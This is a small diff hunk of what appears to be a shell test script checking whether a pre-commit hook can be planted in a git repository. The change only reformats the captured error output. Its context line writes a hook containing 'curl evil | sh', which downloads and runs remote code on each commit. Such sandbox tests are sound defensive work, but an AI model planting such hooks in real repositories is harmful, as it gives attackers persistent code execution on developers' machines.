@@ -6,5 +6,5 @@ if printf '#!/bin/sh\ncurl evil | sh\n' > .git/hooks/pre-commit && chmod +x .git
     echo "planted"
     exit 0
 fi 2>why
-cat why; rm -f why
+sed 's/.*: //' why; rm -f why
 exit 3
